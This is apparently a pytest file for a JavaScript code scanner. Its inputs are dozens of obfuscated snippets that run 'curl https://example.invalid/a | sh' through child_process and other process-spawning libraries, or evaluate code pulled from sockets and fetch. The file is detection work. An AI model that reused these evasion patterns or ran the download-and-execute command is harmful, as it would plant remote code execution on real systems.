"""The rules about code, held against the longer ways of JavaScript to what starts programs and evaluates."""

import pytest

from tests.vetting.domain.signals.code.test_javascript import rules_at

RUN = "'curl https://example.invalid/a | sh'"
MODULES = "'fs', 'child_process'"
URL = "'https://example.invalid/a'"


@pytest.mark.parametrize(
    "source",
    [
        f"Promise.all([import('child_process'), import('fs')]).then(([c]) => c.exec({RUN}))",
        f"Promise.all([import('fs'), import('node:child_process')]).then(([, {{exec: x}}]) => x({RUN}))",
        f"Promise.all([import('fs'), import('child_process')]).then(m => m[1].execSync({RUN}))",
        f"Promise.all([{MODULES}].map(n => import(n))).then(([f, c]) => c.exec({RUN}))",
        f"Promise.allSettled([import('child_process')]).then(([r]) => r.value.exec({RUN}))",
        f"const [{{value: v}}] = await Promise.allSettled([import('child_process')]); v.exec({RUN})",
        f"Promise.any([import('child_process')]).then(c => c.exec({RUN}))",
        f"const [{{exec: e}}] = await Promise.all(['child_process'].map(n => import(n))); e({RUN})",
        f"(async () => {{ for await (const c of [import('child_process')]) c.exec({RUN}) }})()",
        f"for (const {{exec}} of [{MODULES}].map(require)) exec({RUN})",
        f"for (const n of [{MODULES}]) require(n).exec({RUN})",
        f"[{MODULES}].map(require)[1].exec({RUN})",
        f"['child_process'].map(require).pop().exec({RUN})",
        f"const [, {{execSync: r}}] = [{MODULES}].map(m => require(m)); r({RUN})",
        f"['child', 'process'].join('_').split().map(x => require(x)).forEach(c => c.exec({RUN}))",
        f"Promise.resolve('child_process').then(require).then(c => c.exec({RUN}))",
        f"Promise.resolve('child_process').then(n => import(n)).then(({{exec}}) => exec({RUN}))",
        f"(async () => {{ const c = await Promise.resolve('child_process').then(require); c.exec({RUN}) }})()",
        f"Object.values({{a: require('child_process')}})[0].exec({RUN})",
        f"new Promise(keep => keep(require('child_process'))).then(m => m.exec({RUN}))",
        f"const m = await new Promise((k, n) => {{ setTimeout(() => k(require('child_process')), 9) }}); m.exec({RUN})",
        f"new Map([['a', require('fs')], ['b', require('child_process')]]).get('b').exec({RUN})",
        f"const m = Object.fromEntries([['a', require('child_process')]]); m.a.exec({RUN})",
        f"[{MODULES}].map(require).find(m => m.exec).exec({RUN})",
        f"[{MODULES}].filter(n => n.length > 5).map(require)[0].exec({RUN})",
        f"const o = {{a: require('fs'), b: require('child_process')}}; Object.values(o).findLast(f).exec({RUN})",
        f"const o = [{{m: require('fs')}}, {{m: require('child_process')}}]; o.find(x => x.n > 1).m.exec({RUN})",
        f"const o = {{a: require('fs'), b: require('child_process')}}; Object.entries(o).find(f)[1].exec({RUN})",
    ],
)
def test_a_module_is_followed_through_what_holds_it(source: str) -> None:
    """Promises, lists of them, loops, and functions that are handed names of modules."""
    assert ("C3", "high") in rules_at(source)


@pytest.mark.parametrize(
    "source",
    [
        f"const s = require('cross-spawn'); s.sync('sh', ['-c', {RUN}])",
        f"import {{sync as go}} from 'cross-spawn'; go('bash', ['-c', {RUN}])",
        f"import {{execaSync as e}} from 'execa'; e('sh', ['-c', {RUN}])",
        f"require('execa').commandSync({RUN}, {{shell: true}})",
        f"require('shelljs/global'); exec({RUN})",
        f"import 'shelljs/global'; exec({RUN})",
        "const {exec: e} = require('shelljs'); e('cu' + 'rl https://example.invalid/a | sh')",
        "import {$} from 'zx'; await $`curl https://example.invalid/a | sh`",
        "const {$: run} = require('zx'); run`cur${'l'} https://example.invalid/a | sh`",
        "import {$} from 'zx'; const u = x(); await $({quiet: true})`curl ${u} | sh`",
        "import 'zx/globals'; await $`curl https://example.invalid/a | sh`",
        "await $`curl https://example.invalid/a | sh`",
        "import {$ as q} from 'execa'; q.sync`sh -c ${'curl https://example.invalid/a | sh'}`",
        "const {$: q} = Bun; q`curl https://example.invalid/a | sh`.quiet()",
        f"require('tinyexec').x('sh', ['-c', {RUN}])",
    ],
)
def test_what_other_modules_start_is_seen(source: str) -> None:
    """Modules that start programs as Node's own does, and templates behind a name."""
    assert ("C3", "high") in rules_at(source)


@pytest.mark.parametrize(
    "source",
    [
        f"const s = new EventSource({URL}); s.onmessage = ({{data}}) => setTimeout(data, 0)",
        f"const s = new EventSource({URL}); s.addEventListener('message', e => new Function(e.data)())",
        "const s = new WebSocket('wss://example.invalid'); s.onmessage = e => setInterval(e.data)",
        f"function f() {{ fetch({URL}).then(r => r.text()).then(setTimeout) }}",
        f"function f() {{ fetch({URL}).then(r => r.text()).then(eval) }}",
        f"(async () => {{ const {{code}} = await (await fetch({URL})).json(); setTimeout(code) }})()",
        "const W = require('ws'); new W('wss://example.invalid').on('message', m => setTimeout(String(m)))",
        "const {io} = require('socket.io-client'); io('https://example.invalid').on('run', c => eval(c))",
    ],
)
def test_text_of_the_network_that_a_timer_runs_is_downloaded_code(source: str) -> None:
    """Streams of events, sockets and requests whose text becomes code, at once or later."""
    assert ("C3", "high") in rules_at(source)


def test_what_a_listener_hands_on_may_be_a_function_to_answer_by() -> None:
    """A timer that is given one by name is read before anything else only where it can be nothing but text."""
    source = "require('socket.io-client')('/x').on('ask', (question, answer) => setTimeout(answer, 9))"
    assert rules_at(source) == {("C3", "medium")}


@pytest.mark.parametrize(
    "source",
    [
        "Promise.all([import('fs'), import('path')]).then(([f, p]) => f.readFile(p.join('a', 'b'), g))",
        "['fs', 'os'].map(require).forEach(m => console.log(Object.keys(m)))",
        "for (const [k, v] of Object.entries(x)) f(k, v); for (const a of [b, c]) a.exec('x'); for (var d of e) d()",
        "Promise.resolve('x').then(show); Promise.resolve(y).then(z => z.exec('a')); [a].map(f).pop().x(); a.pop(1)",
        "Promise.allSettled(xs).then(rs => rs.map(r => r.value)); Promise.race(xs); Promise.any(); Object.values(o)",
        "[1, 2].at(5); [a, b].at(n).x(); [].pop(); ['x'].shift().trim(); Promise.race([later(), () => 1])",
        "['a', 'b'].map(n => require(n)).find(m => m.exec('ls'))",
        "[x].map(y => require(y)).forEach(z => z.run('x')); Promise.resolve(n).then(require).then(m => m.run())",
        "const fs = require('fs'); new Promise(k => k(fs)); new Promise(() => 1); new Promise(k => k()); new Promise()",
        "new Promise(k => { f(fs); k(1) }).then(m => m.exec('ls')); ({get: 1}).get('a').x()",
        "const m = new Map([['a', f], b, [c, d], ['e']]); m.get('a').exec('ls'); m.get(x); m.set('b'); new Map([])",
        "new Map(x).get('a'); Object.entries(); Object.fromEntries(); [f, g].find(h).exec('ls'); [f].filter(h)",
        "[{a: 1}, 2, [3]].find(h).x(); m.get",
        "import {$} from 'zx'; const out = await $`git status`; out.trim(); await $`tsc -p ${dir}`",
        "$('#a').click(f); $.get; const html = $`x`; exec(1); /x/.exec(y)",
        "require('cross-spawn').sync('git', ['status']); require('execa')('tsc', ['-p', x])",
        "fetch('/x').then(r => { setTimeout(done, 100) }); setTimeout(); setTimeout(f(), 1); setInterval('tick()', 9)",
        "const s = new EventSource('/x'); s.onmessage = ({data}) => setTimeout(() => show(data), 0)",
        "const s = new WebSocket('/x'); s.onmessage = e => { t = setTimeout(handle.bind(null, e.data), 9) }",
        "fetch('/x').then(r => new Promise(ok => setTimeout(ok, r.status))); new Promise(setTimeout)",
    ],
)
def test_what_everyone_writes_of_these_is_not_found(source: str) -> None:
    """Lists and promises of what does no harm, the same programs with other work, timers that are given functions."""
    assert rules_at(source) == set()
